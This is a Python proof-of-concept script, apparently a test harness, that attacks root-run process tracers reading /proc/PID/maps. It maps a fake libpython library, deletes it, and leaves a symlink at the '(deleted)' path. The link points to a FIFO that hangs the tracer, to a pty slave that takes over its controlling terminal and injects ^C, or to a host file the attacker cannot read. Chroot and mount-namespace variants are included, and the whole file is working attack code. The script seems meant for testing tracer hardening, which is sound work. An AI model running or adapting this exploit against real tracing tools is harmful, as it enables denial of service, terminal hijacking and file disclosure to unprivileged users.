"""An unprivileged attacker against a root tracer that opens the files a process maps.

    attack_mapping.py WORKDIR WHERE TARGET

Maps a file named libpython3.11.so.1.0 (so a tracer takes this process for an embedded
Python whose interpreter is that file), deletes it, and puts at the name a tracer finds in
/proc/PID/maps, "PATH (deleted)", a symbolic link to TARGET:
  TARGET = "fifo"  a FIFO of ours (a plain open() of it blocks forever)
  TARGET = "pty"   the slave side of a pty of ours (a session leader without a controlling
                   terminal that opens it without O_NOCTTY gets it as its terminal); we then
                   type ^C into it every 0.1 s
  otherwise        that path (a host file we cannot read ourselves)
WHERE says where the mapping lives:
  "plain"    in WORKDIR, in the host's mount namespace
  "chroot"   in WORKDIR/jail, and we chroot there (run under `unshare -Ur`): the link's
             absolute target means the jail's file to us, the host's to a careless tracer
  "mountns"  on a tmpfs mounted in a private mount namespace (run under `unshare -Urm`)
Prints "ready" when all is in place, then waits (with a thread blocked on a lock, like a
hung Python would) until killed.
"""
import mmap
import os
import subprocess
import sys
import threading
import time

NAME = "libpython3.11.so.1.0"


def main():
    workdir, where, target = sys.argv[1:4]
    if where == "plain":
        libdir = workdir
    elif where == "chroot":
        libdir = os.path.join(workdir, "jail", "lib")
    elif where == "mountns":
        libdir = os.path.join(workdir, "m")
        os.makedirs(libdir, exist_ok=True)
        subprocess.check_call(["mount", "-t", "tmpfs", "attacker", libdir])
    else:
        raise SystemExit("unknown WHERE " + where)
    os.makedirs(libdir, exist_ok=True)
    path = os.path.join(libdir, NAME)
    with open(path, "wb") as f:
        f.write(b"\x7fELF not really" + b"\0" * 8192)
    with open(path, "rb") as f:
        mapping = mmap.mmap(f.fileno(), 8192, prot=mmap.PROT_READ)
    os.unlink(path)

    master = None
    if target == "fifo":
        link_to = os.path.join(workdir, "fifo")
        os.mkfifo(link_to, 0o666)
    elif target == "pty":
        master, slave = os.openpty()
        os.set_blocking(master, False)
        link_to = os.ttyname(slave)
        os.chmod(link_to, 0o666)
        os.close(slave)
    else:
        link_to = target
    deleted = path + " (deleted)"
    if where == "chroot":
        # the tracer reads the host's name of the file in /proc/PID/maps and looks it up
        # under /proc/PID/root, i.e. in the jail
        jail = os.path.join(workdir, "jail")
        inside = jail + deleted
        os.makedirs(os.path.dirname(inside), exist_ok=True)
        os.symlink(link_to, inside)
        os.chroot(jail)
        os.chdir("/")
    else:
        os.symlink(link_to, deleted)

    lock = threading.Lock()
    lock.acquire()
    threading.Thread(target=lock.acquire, daemon=True).start()
    print("ready", flush=True)
    while True:
        if master is not None:
            try:
                os.write(master, b"\x03")
            except OSError:
                pass
        time.sleep(0.1)
    mapping.close()


main()
